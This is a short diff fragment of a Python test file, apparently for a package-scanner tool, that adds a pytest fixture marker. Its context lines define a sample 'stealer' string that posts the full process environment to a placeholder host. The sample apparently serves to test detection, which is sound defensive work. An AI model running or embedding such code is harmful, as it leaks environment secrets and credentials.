@@ -12,6 +12,8 @@ from scanner.cli import main
 from tests.support.builders import sha256, wheel
 from tests.support.index_server import Index
 
+pytestmark = pytest.mark.usefixtures("seed_is_unpacked")
+
 STEALER = """\
 import os, urllib.request
 urllib.request.urlopen("https://collect.invalid/", data=repr(dict(os.environ)).encode())
